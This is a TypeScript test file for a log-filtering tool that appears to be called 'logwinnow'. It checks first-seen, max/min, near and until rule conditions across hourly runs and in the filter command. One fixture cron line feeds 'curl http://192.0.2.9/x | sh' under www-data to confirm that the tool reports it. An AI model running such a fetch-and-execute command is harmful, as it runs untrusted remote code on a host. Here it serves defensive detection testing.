/** Conditions of rules as a user meets them: over several runs of the hourly job, and in `filter`. */
import { appendFileSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { gzipSync } from "node:zlib";
import { expect } from "chai";
import { Sandbox, type Outcome } from "../support/cli.js";
import { countsIn, inOneLine } from "../support/mail-text.js";

const header = String.raw`^\w{3} [ :0-9]{11} [._[:alnum:]-]+ `;
const months = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];

/** A line of some minutes ago. */
function line(minutesAgo: number, text: string): string {
  const time = new Date(Date.now() - minutesAgo * 60_000);
  const day = String(time.getUTCDate()).padStart(2);
  return `${months[time.getUTCMonth()]} ${day} ${time.toISOString().slice(11, 19)} web1 ${text}\n`;
}

describe("conditions of rules", () => {
  let box: Sandbox;
  let log: string;
  beforeEach(() => {
    box = new Sandbox();
    log = box.path("app.log");
    box.write(
      "rules/ignore.d/server/cron",
      `#@ first-seen=\\1,\\2:masked family=cron-command\n${header}CRON\\[[0-9]+\\]: \\(([^ )]+)\\) CMD \\((.*)\\)$\n\n${header}routine$\n`,
    );
    box.write(
      "logwinnow.toml",
      `[rules]\ndirectories = ["rules"]\n[[source]]\nkind = "file"\npath = "app.log"\nfirst_run = "24h"\n`,
    );
    writeFileSync(log, "");
  });
  afterEach(() => box.remove());

  const check = (...args: readonly string[]): Outcome =>
    box.run(["check", "--config", box.path("logwinnow.toml"), "--stdout", ...args]);
  /** What a run prints about lines and keys; its ledger must add up, or it would fail. */
  function told(...args: readonly string[]): string {
    const { status, stdout, stderr } = check(...args);
    expect({ status, stderr }).to.deep.equal({ status: 0, stderr: "" });
    return stdout.replace(/\n[^\n]*\bread\b[^]*$/, "");
  }
  const cron = (minutesAgo: number, command: string, user = "root"): string =>
    line(minutesAgo, `CRON[${1000 + minutesAgo}]: (${user}) CMD (${command})`);
  const memory = (): readonly string[] =>
    readdirSync(box.path("state/memory")).filter((name) => name.includes("first-seen"));

  describe("first-seen", () => {
    it("learns on the first run from it and from rotated logs, and mails the inventory once", () => {
      writeFileSync(`${log}.1`, cron(3 * 1440, "weekly 7"));
      writeFileSync(`${log}.2.gz`, gzipSync(cron(9 * 1440, "monthly")));
      writeFileSync(log, cron(70, "hourly"));
      const first = told();
      expect(inOneLine(first)).to.include("KNOWN ON THIS HOST FROM NOW ON 3");
      for (const key of ["cron-command", "root, hourly", "root, monthly", "root, weekly #"])
        expect(inOneLine(first)).to.include(key);
      expect(countsIn(first).violations).to.equal(0);
      appendFileSync(log, cron(10, "hourly") + cron(9, "weekly 8") + cron(8, "monthly"));
      expect(told()).to.equal("");
    });

    it("tells what was not there, once, in words, and knows it from then on", () => {
      writeFileSync(log, cron(70, "hourly"));
      told();
      appendFileSync(log, cron(10, "curl http://192.0.2.9/x | sh", "www-data") + cron(9, "hourly"));
      const report = told();
      expect(countsIn(report).violations).to.equal(1);
      expect(inOneLine(report)).to.include("first seen: cron-command: www-data, curl http://#.#.#.#/x | sh");
      expect(inOneLine(report)).to.not.include("KNOWN ON THIS HOST");
      appendFileSync(log, cron(5, "curl http://192.0.2.9/x | sh", "www-data"));
      expect(told()).to.equal("");
    });

    it("tells it again in the next run where the one before was dry", () => {
      writeFileSync(log, cron(70, "hourly"));
      told();
      appendFileSync(log, cron(10, "new job"));
      for (const args of [["--dry-run"], ["--dry-run"], []])
        expect(inOneLine(told(...args))).to.include("root, new job");
      expect(told()).to.equal("");
    });

    it("tells all keys once more where its memory is damaged: nothing is learnt silently", () => {
      writeFileSync(log, cron(70, "hourly"));
      told();
      const [name = ""] = memory();
      const path = box.path("state/memory", name);
      writeFileSync(path, readFileSync(path, "utf8").replace("hourly", "hourlz"));
      appendFileSync(log, cron(10, "hourly"));
      const report = told();
      expect(inOneLine(report))
        .to.include("is damaged (its checksum is wrong)")
        .and.include("first seen: cron-command: root, hourly");
      appendFileSync(log, cron(5, "hourly"));
      expect(told()).to.equal("");
    });

    it("takes the keys of rules that an upgrade brings for inventory, with what was logged before", () => {
      writeFileSync(log, cron(70, "hourly") + line(70, "CRON[7]: pam_unix: session for root"));
      told();
      box.write(
        "rules/ignore.d/server/pam",
        `#@ first-seen=\\1 family=session\n${header}CRON\\[[0-9]+\\]: pam_unix: session for ([a-z]+)$\n`,
      );
      appendFileSync(log, line(10, "CRON[8]: pam_unix: session for alice"));
      const report = told();
      expect(inOneLine(report))
        .to.include("KNOWN ON THIS HOST FROM NOW ON 2")
        .and.include("alice")
        .and.include("session");
      expect(countsIn(report).violations).to.equal(0);
      appendFileSync(log, line(5, "CRON[9]: pam_unix: session for mallory"));
      expect(inOneLine(told())).to.include("first seen: session: mallory");
    });

    it("tells more, never less, when keys are flooded", () => {
      writeFileSync(log, cron(70, "hourly"));
      told();
      const flood = Array.from({ length: 1000 }, (_, index) =>
        cron(20, `forged ${"abcdefghij"[index % 10]}${"x".repeat(index)}`),
      );
      appendFileSync(log, flood.join("") + cron(10, "hourly"));
      const flooded = told();
      expect(countsIn(flooded).violations).to.equal(1_000);
      expect(inOneLine(flooded)).to.include(
        'first-seen of "cron": there is no room for more keys 701 lines were reported',
      );
      appendFileSync(log, cron(5, "backdoor") + cron(4, "hourly"));
      const after = told();
      expect(countsIn(after).violations).to.equal(1);
      expect(inOneLine(after)).to.include("CMD (backdoor)");
      expect(inOneLine(after)).to.include("there is no room to remember more");
      appendFileSync(log, cron(3, "backdoor"));
      expect(inOneLine(told())).to.include("CMD (backdoor)");
    });

    it("gives way to a rule that was written for this host", () => {
      box.write(
        "rules/ignore.d/local/cron",
        `${header}CRON\\[[0-9]+\\]: \\(root\\) CMD \\(mine [0-9]+\\)$\n`,
      );
      told();
      appendFileSync(log, cron(70, "mine 1"));
      expect(told()).to.equal("");
    });

    it("shows the first line of each key in filter, whatever earlier runs know", () => {
      const [hourly, daily] = [cron(70, "hourly"), cron(4, "daily")];
      const input = hourly + cron(10, "hourly") + line(5, "routine") + daily;
      const filter = (...args: readonly string[]): Outcome =>
        box.run(["filter", "--rules", box.path("rules"), ...args], { input });
      expect(filter().stdout).to.equal(hourly + daily);
      expect(filter("--explain").stdout).to.match(/cron:2 \(first seen\): .* CMD \(hourly\)\n/);
      const [first] = filter("--json")
        .stdout.trim()
        .split("\n")
        .map((text): unknown => JSON.parse(text));
      expect(first).to.include({
        layer: "violation",
        because: "first seen",
        firstSeen: "cron-command: root, hourly",
      });
      expect(inOneLine(filter("--group").stdout)).to.include("first seen: cron-command: root, daily");
      expect(filter("--layer", "ignored", "--count").stdout).to.equal("2\n");
    });
  });

  describe("max and min", () => {
    beforeEach(() => {
      box.write("rules/ignore.d/server/app", `#@ max=3/h\n${header}app: slow\n\n${header}app: refused\n`);
      box.write("rules/violations.d/app", `#@ min=4/h title="many were refused"\n${header}app: refused\n`);
    });

    it("max counts on from run to run, and tells what is past it", () => {
      told();
      appendFileSync(log, line(30, "app: slow") + line(29, "app: slow"));
      expect(told()).to.equal("");
      appendFileSync(log, line(10, "app: slow 3") + line(9, "app: slow 4") + line(8, "app: slow 5"));
      const report = told();
      expect(countsIn(report).others).to.equal(2);
      expect(inOneLine(report)).to.include("more than its rule allows");
      expect(inOneLine(report)).to.not.include("slow 3");
      expect(inOneLine(report)).to.include("slow 4").and.include("slow 5");
    });

    it("min keeps lines from run to run, and tells them with the one that reaches it", () => {
      told();
      appendFileSync(log, line(90, "app: refused 0") + line(30, "app: refused 1"));
      expect(told()).to.equal("");
      appendFileSync(log, line(20, "app: refused 2"));
      expect(told("--dry-run")).to.equal("");
      expect(told()).to.equal("");
      appendFileSync(
        log,
        line(11, "app: refused 3") + line(10, "app: refused 4") + line(9, "app: refused 5"),
      );
      const report = told();
      expect(countsIn(report).violations).to.equal(2);
      expect(inOneLine(report)).to.include("3 lines before, when its rule's minimum was not reached");
      for (const number of [1, 2, 3, 4, 5]) expect(inOneLine(report)).to.include(`refused ${number}`);
      expect(inOneLine(report)).to.not.include("refused 0");
      appendFileSync(log, line(1, "app: refused 6"));
      const next = told();
      expect(countsIn(next).violations).to.equal(1);
      expect(inOneLine(next)).to.include("refused 6").and.not.include("refused 5");
    });

    it("filter shows all of them once enough have come", () => {
      const lines = [30, 20, 11, 10].map((ago) => line(ago, `app: refused ${ago}`));
      const filter = (input: string): string =>
        box.run(["filter", "--rules", box.path("rules")], { input }).stdout;
      expect(filter(lines.slice(0, 3).join(""))).to.equal("");
      expect(filter(lines.join(""))).to.equal(lines.join(""));
    });
  });

  describe("near", () => {
    const boot = (ago: number): string => line(ago, "kernel: [    0.000000] Linux version 6.1.0-25-amd64");
    beforeEach(() => {
      box.write("rules/never.d/app", `#@ near=boot\n${header}app: cannot connect\n`);
      box.write("rules/ignore.d/server/kernel", `${header}kernel: \\[ +0\\.000000\\] Linux version `);
    });

    it("shows alarms one layer lower around a boot, also before its first line, and only those", () => {
      box.write("kern.log", boot(20));
      box.write(
        "logwinnow.toml",
        `[rules]\ndirectories = ["rules"]\n[[source]]\nkind = "file"\npath = ["app.log", "kern.log"]\n`,
      );
      writeFileSync(
        log,
        line(20.5, "app: cannot connect a") +
          line(15, "app: cannot connect b") +
          line(5, "app: cannot connect c"),
      );
      const report = told();
      expect(countsIn(report)).to.include({ alarms: 1, violations: 2 });
      expect(inOneLine(report)).to.include("expected while the machine boots");
      expect(report.indexOf("connect c")).to.be.lessThan(report.indexOf("WORTH A LOOK"));
    });

    it("remembers a boot for the next run", () => {
      told();
      appendFileSync(log, boot(12));
      expect(told()).to.equal("");
      appendFileSync(log, line(4, "app: cannot connect"));
      expect(countsIn(told()).violations).to.equal(1);
    });

    it("filter knows what came before", () => {
      const input = boot(20) + line(15, "app: cannot connect");
      const { stdout } = box.run(["filter", "--rules", box.path("rules"), "--explain"], { input });
      expect(stdout).to.include("never.d/app:2 (expected while the machine boots): ");
    });
  });

  it("until: a rule is off from its day on, and the report says so once a day", () => {
    box.write("rules/ignore.d/server/app", `#@ until=2020-01-31 owner=ops\n${header}app: tolerated$\n`);
    writeFileSync(log, line(10, "app: tolerated"));
    const first = told();
    expect(countsIn(first).others).to.equal(1);
    expect(inOneLine(first)).to.include("its time ended on 2020-01-31 (ops)");
    expect(told(), "not every hour").to.equal("");
  });

  it("a state of its own that is gone is a first run: it learns again, and says what", () => {
    writeFileSync(log, cron(70, "hourly"));
    told();
    rmSync(box.path("state"), { recursive: true });
    expect(inOneLine(told())).to.include("KNOWN ON THIS HOST FROM NOW ON 1");
  });
});
